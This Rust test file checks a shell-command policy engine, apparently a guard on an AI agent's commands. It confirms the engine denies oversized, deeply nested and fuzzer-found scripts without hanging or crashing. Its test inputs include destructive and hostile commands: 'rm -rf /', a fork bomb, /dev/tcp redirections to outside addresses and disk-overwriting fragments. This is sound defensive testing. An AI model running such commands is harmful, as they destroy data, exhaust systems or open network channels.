//! Nothing the model sends can crash or stall the engine: oversized and
//! deeply nested scripts are denied quickly, and everything else is answered
//! on a thread with an ordinary stack.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::time::{Duration, Instant};
use sysward_policy::{parse_agent_md, Engine, HostFacts, LexicalPaths, Request, Verdict};

fn engine() -> Engine {
    let md = "```policy\nEXECUTION_MODE=unrestricted\nALLOW_DELETE=true\nALLOW_OUTSIDE_PROJECT_WRITE=true\nALLOW_OUTSIDE_PROJECT_READ=true\n```\n";
    let mut f = HostFacts::packaged(0, 0);
    f.project_root = "/srv/agent".into();
    f.scratch_dir = "/srv/agent/.agent/tmp".into();
    Engine::new(parse_agent_md(md).unwrap().block, f)
}

/// Decides on a thread with `stack` bytes, as a broker worker would.
fn decide_on(stack: usize, script: String) -> (sysward_policy::Decision, Duration) {
    std::thread::Builder::new()
        .stack_size(stack)
        .spawn(move || {
            let e = engine();
            let t = Instant::now();
            let d = e.decide(
                &Request::Shell {
                    script: &script,
                    cwd: Path::new("/srv/agent/work"),
                },
                &LexicalPaths,
            );
            (d, t.elapsed())
        })
        .unwrap()
        .join()
        .unwrap()
}

const MIB: usize = 1 << 20;

fn nested(open: &str, inner: &str, close: &str, bytes: usize) -> String {
    let n = bytes / (open.len() + close.len());
    let mut s = String::with_capacity(bytes + inner.len());
    for _ in 0..n {
        s.push_str(open);
    }
    s.push_str(inner);
    for _ in 0..n {
        s.push_str(close);
    }
    s
}

#[test]
fn one_mebibyte_of_nesting_is_denied_quickly() {
    let cases = [
        nested("$(", "rm -rf /", ")", MIB - 16),
        nested("{ ", "rm -rf /;", " }", MIB - 16),
        nested("(", "rm -rf /", ")", MIB - 16),
        nested("`", "x", "`", MIB - 16),
        nested("if ", "true;", " then :; fi;", MIB - 32),
        format!("[[ {} a ]]", "! ".repeat(MIB / 2 - 16)),
        "$(".repeat(MIB / 2),
        "{".repeat(MIB),
        "(".repeat(MIB),
    ];
    for s in cases {
        assert!(s.len() <= MIB, "{}", s.len());
        let (d, took) = decide_on(2 * MIB, s);
        assert!(d.verdict.is_deny(), "{d:?}");
        assert_eq!(d.source, "analysis limits");
        assert!(took < Duration::from_secs(1), "took {took:?}");
    }
    // Over the size cap: refused before anything looks at it.
    let (d, took) = decide_on(2 * MIB, "ls;".repeat(MIB / 3 + 1));
    assert!(
        d.verdict.is_deny() && d.reason.contains("larger than 1 MiB"),
        "{d:?}"
    );
    assert!(took < Duration::from_millis(500), "{took:?}");
    // A megabyte of plain commands: refused before the parser (which would
    // take seconds and hundreds of MB on it).
    let (d, took) = decide_on(2 * MIB, "ls -la;".repeat(MIB / 7 - 1));
    assert!(
        d.verdict.is_deny() && d.reason.contains("too long to analyse"),
        "{d:?}"
    );
    assert!(took < Duration::from_millis(500), "{took:?}");
    let (d, took) = decide_on(2 * MIB, "ls -la;".repeat(8000));
    assert_eq!(
        d.verdict,
        Verdict::Allow,
        "8,000 commands are still analysed"
    );
    assert!(took < Duration::from_secs(5), "{took:?}");
    // …and the engine keeps serving.
    let (d, _) = decide_on(2 * MIB, "ls -la".to_string());
    assert_eq!(d.verdict, Verdict::Allow);
}

#[test]
fn nesting_just_under_the_cap_is_answered_on_a_small_thread() {
    // Every construct brush-parser recurses on, as deep as the opener cap
    // allows: parsed on the engine's own big-stack thread, never on ours.
    let n = sysward_policy::MAX_OPENERS / 2 - 2;
    let cases = [
        nested("$(", "rm -rf /", ")", 3 * n),
        nested("{ ", "ls;", " };", 5 * n),
        nested("( ", "ls", " )", 4 * n),
        nested("if ", "true;", " then :; fi;", 16 * n),
        nested("case x in x) ", "ls", " ;; esac", 20 * n / 2),
        nested("cat <(", "ls", ")", 7 * n),
        format!("[[ {} a ]]", "! ".repeat(n)),
        nested("bash -c \"", "ls", "\"", 10 * n / 2),
    ];
    for s in cases {
        let (d, took) = decide_on(256 << 10, s.clone());
        assert!(
            took < Duration::from_secs(20),
            "took {took:?} for {}",
            &s[..40.min(s.len())]
        );
        let _ = d;
    }
}

#[test]
fn small_scripts_run_inline_within_a_small_stack() {
    // At most INLINE_OPENERS openers run on the caller's thread: prove that
    // the worst shapes fit in 1 MiB (the documented requirement), debug build.
    let k = 16;
    let cases = [
        nested("{ ", "ls;", " };", 5 * k),
        nested("if ", "true;", " then :; fi;", 8 * k),
        nested("$(", "ls", ")", 3 * k),
        nested("cat <(", "ls", ")", 7 * k),
    ];
    for s in cases {
        let (d, _) = decide_on(MIB, s);
        let _ = d;
    }
}

#[test]
fn backtracking_shapes_answer_fast() {
    let e = engine();
    for s in [
        "(".repeat(40),
        "( ".repeat(40),
        "( ( a ".repeat(30),
        "((a ".repeat(30),
        format!("(({}", "(".repeat(30)),
    ] {
        let t = Instant::now();
        let d = e.decide(
            &Request::Shell {
                script: &s,
                cwd: Path::new("/srv/agent/work"),
            },
            &LexicalPaths,
        );
        assert!(d.verdict.is_deny(), "{d:?}");
        assert!(
            t.elapsed() < Duration::from_millis(500),
            "{:?} for {s}",
            t.elapsed()
        );
    }
    // Quoted parentheses do not count; ordinary scripts with a few pairs still parse.
    let d = e.decide(&Request::Shell { script: "awk '{ if ((($1))) print substr(($2), (1), (3)) ((x)) ((y)) ((z)) }' f; find . \\( -name a -o -name b \\)", cwd: Path::new("/srv/agent/work") }, &LexicalPaths);
    assert_eq!(d.verdict, Verdict::Allow, "{d:?}");
    let d = e.decide(
        &Request::Shell {
            script: "for ((i=0;i<3;i++)); do (( n += i )); done; echo $((n * (2 + 1)))",
            cwd: Path::new("/srv/agent/work"),
        },
        &LexicalPaths,
    );
    assert_eq!(d.verdict, Verdict::Allow, "{d:?}");
}

#[test]
fn garbage_never_panics() {
    let samples = [
        "",
        " ",
        "\n\n",
        ";",
        ";;",
        "&&",
        "|",
        "||",
        "&",
        ")",
        "(",
        "}",
        "{",
        "`",
        "$(",
        "${",
        "$((",
        "<<",
        "<<EOF",
        "<<<",
        ">",
        ">&",
        "2>&",
        "\\",
        "'",
        "\"",
        "$'",
        "[[",
        "]]",
        "((",
        "))",
        "if",
        "then",
        "fi",
        "case",
        "esac",
        "for",
        "do",
        "done",
        "function",
        "coproc",
        "select",
        "!",
        "! !",
        "time",
        "time -p",
        "ls \u{0}",
        "\u{feff}ls",
        "ｒｍ -rf /",
        "rm\u{200b} -rf /",
        "ls -la \u{1F600}",
        "echo $'\\x00'",
        "a=\u{0}",
        "cat <<\u{0}\n\u{0}\n",
        ":(){ :;};:",
        "${a[$(id)]}",
        "${!a}",
        "${a/$(id)/x}",
        "${a:$(id)}",
        "$[1+$(id)]",
        "echo ${#}",
        "echo $((1/0))",
        "((",
        "for ((;;)); do :; done",
        "f() f",
        "function f { f; }",
        "exec 3<>/dev/tcp/1.2.3.4/80",
        "cat </dev/tcp/1.2.3.4/80",
        "echo >/dev/udp/1.1.1.1/53",
                                // Found by cargo-fuzz: brush-parser's word parser backtracks
        // exponentially over unclosed substitutions (here in a heredoc).
        "ca <<EOF\n*($( x[*($( x[______*($( x[*($( x[______m -'c\nm$@(i +[$(\nm$@(i` +[$i`aM____m m -'c\nm$@(i +[$(\nm$@OF\n*($( x[*($( x[_____(i` +[$i`a m -'mc\nm -c\nEOF\n",
        "echo \"$(( $( $(( $( $(( $( $(( $( $(( $( $(( $( \"",
        "scree <<EOF\n$(rm -rystOF<Ef\n$[ste(((((((((((((((((((((((((((((((((((((((((((((((mctmctl re\"tscct <<EOF\n$(rm -rys\nEOF tf<EOF\n$[stemctmctl re\"t\nEOF\n",
        "echo $[((((((((((((((((((((((((((((((((((((((((1",
        "coproc( --in-placeid- x[$(i x$[(iatrm ]$(dii- CAP_SETUIDx[$(i x$[(iatrm ]$+idd)$$, ]$(id x[$(i Dx[$(ix[$(id- x[$(i x$[(iatrm ($i)d]$$, ]$(id)$-placeid- x[$SETUIDx[$(i x$[(iatrm ]$+idd)$$(i x$[(iatrm, ])d)d)$) )$, ])d)d)$) ])",
        "bash <<EOF\nr\" -rf`f` cho ${x[($F\nrm -r$(\"+cho ${x[($F\nrm -r$(\"+cho ${x[($F\nrm F\nrm -r\nrm F\nrm -r\"+\"lk\nEOF\"lk\nEOF\n",
        // Found by cargo-fuzz: brush-parser loops forever on these.
        "<<\r ", "<< \r ", "<<-\r ", "<<\u{c} ", "dhdparm<\rbah <<  <<\r\r pkI -d/4ev//m ",
        // Found by cargo-fuzz: exponential backtracking on nested `(`.
        "((({( {((kecpan(8kecpan({( {(rr(r (ndrr(r (ndgmni{( {(rr(r (ndrr {((kecpan(8kecpan({( {(rr(r (ndrr(r (ndgmni{(r (ndgmni",
        "(((((,(,((((((((((((\u{11}(((\u{1f}((((((((((((((((((((((((((((((((((((,(,((((((2(\u{0}\u{0}ls",
        "( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ( ( a ls",
        // Found by cargo-fuzz: brush-parser unwraps an fd number that overflows.
        "tee 444444444444444444444444444444444444> (mr-rf 0)/nu/dee \u{1b}vnull",
        "ls 99999999999> x", "echo ~+99999999999999999999999", "echo {1..99999999999999999999}",
        "x=( $(id) )",
        "declare -A a=([k]=$(id))",
        "[[ -v a[$(id)] ]]",
        "<(",
        ">(",
        "<()",
        "cat <(:) >(:)",
    ];
    let e = engine();
    for s in samples {
        let d = e.decide(
            &Request::Shell {
                script: s,
                cwd: Path::new("/srv/agent/work"),
            },
            &LexicalPaths,
        );
        let _ = sysward_policy::explain(&d);
        let d = e.decide(
            &Request::Shell {
                script: s,
                cwd: Path::new("relative"),
            },
            &LexicalPaths,
        );
        let _ = d;
        let argv = vec![s.to_string(), s.to_string()];
        let _ = e.decide(
            &Request::Exec {
                argv: &argv,
                env: &[],
                stdin: None,
                cwd: Path::new("/"),
            },
            &LexicalPaths,
        );
    }
}

#[test]
fn dev_tcp_redirections_are_writes_outside_the_project() {
    let md = "```policy\nEXECUTION_MODE=guarded\n```\n";
    let mut f = HostFacts::packaged(0, 0);
    f.project_root = "/srv/agent".into();
    f.scratch_dir = "/srv/agent/.agent/tmp".into();
    let e = Engine::new(parse_agent_md(md).unwrap().block, f);
    for s in [
        "echo x > /dev/tcp/1.2.3.4/80",
        "exec 3<>/dev/tcp/1.2.3.4/80",
    ] {
        let d = e.decide(
            &Request::Shell {
                script: s,
                cwd: Path::new("/srv/agent/work"),
            },
            &LexicalPaths,
        );
        assert!(d.verdict.is_deny(), "{s}: {d:?}");
    }
}

/// Decides `script` on its own thread and fails the test if no answer comes
/// within `limit` (a looping parser would otherwise hang the whole run).
fn decide_within(limit: Duration, script: &str) -> sysward_policy::Decision {
    let (tx, rx) = std::sync::mpsc::channel();
    let owned = script.to_string();
    std::thread::spawn(move || {
        let d = engine().decide(
            &Request::Shell {
                script: &owned,
                cwd: Path::new("/srv/agent/work"),
            },
            &LexicalPaths,
        );
        let _ = tx.send(d);
    });
    match rx.recv_timeout(limit) {
        Ok(d) => d,
        Err(_) => panic!("no decision within {limit:?} for {script:?}"),
    }
}

#[test]
fn here_documents_without_a_usable_delimiter_end() {
    // Found by the property tests and a targeted search: brush-parser 0.4.0
    // as released loops here, allocating until the kernel kills the process
    // (the vendored copy in third_party/brush-parser carries the fix).
    let looping = [
        "echo $(cat <<  ",
        "<<x$(  ",
        "<<-$(( )",
        "$(<<-\t<<<&}\t",
        "<\t<<\"\"((#\" ",
        "$( x-<<<<<- )$(",
        "<<<\\<<<{$(( ((&\\cat ",
        "apt-get do2>&1LD_PRELOAD=/x done cp /etc /dev/sdbsudo <<EOF\nrm -rf /\nEOF\n f()<< -c$( && >> tools/x ~ sudodo ",
    ];
    for s in looping {
        let d = decide_within(Duration::from_secs(10), s);
        assert_ne!(d.verdict, Verdict::Allow, "{s:?}: {d:?}");
    }
    // The tokenizer itself now ends with an error on the raw inputs, control
    // characters included (the engine refuses those before parsing).
    let opts = brush_parser::ParserOptions::default().tokenizer_options();
    for s in looping
        .iter()
        .copied()
        .chain(["<<\r ", "<<-\r ", "<<\u{c} "])
    {
        let (tx, rx) = std::sync::mpsc::channel();
        let owned = s.to_string();
        let o = opts.clone();
        std::thread::spawn(move || {
            let _ = tx.send(brush_parser::uncached_tokenize_str(&owned, &o).is_ok());
        });
        assert!(
            rx.recv_timeout(Duration::from_secs(10)).is_ok(),
            "tokenizer did not end on {s:?}"
        );
    }
    // The legitimate here-documents next to them still parse and are allowed.
    for s in [
        "cat <<EOF > /srv/agent/work/notes\nhello\nEOF\n",
        "cat << 'EOF' > /srv/agent/work/notes\n$HOME stays literal\nEOF",
        "x=$(cat << EOF\nhello\nEOF\n)\necho \"$x\"",
        "cat <<-EOF\n\tindented\n\tEOF\n",
        "grep -c x <<< \"$(cat /srv/agent/work/notes)\"",
    ] {
        let d = decide_within(Duration::from_secs(10), s);
        assert_eq!(d.verdict, Verdict::Allow, "{s:?}: {d:?}");
    }
}
